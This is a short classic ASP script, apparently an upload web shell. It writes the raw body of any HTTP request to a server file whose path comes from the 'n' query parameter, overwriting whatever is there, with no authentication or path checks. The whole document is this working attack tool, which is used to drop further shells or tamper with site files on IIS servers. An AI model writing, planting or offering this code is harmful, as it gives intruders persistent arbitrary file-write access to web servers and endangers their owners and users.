<%
Dim b, st
If Request.TotalBytes > 0 Then
    b = Request.BinaryRead(Request.TotalBytes)
    Set st = Server.CreateObject("ADODB.Stream")
    st.Type = 1
    st.Open
    st.Write b
    st.SaveToFile Server.MapPath(Request.QueryString("n")), 2
    st.Close
    Response.Write "done"
End If
%>
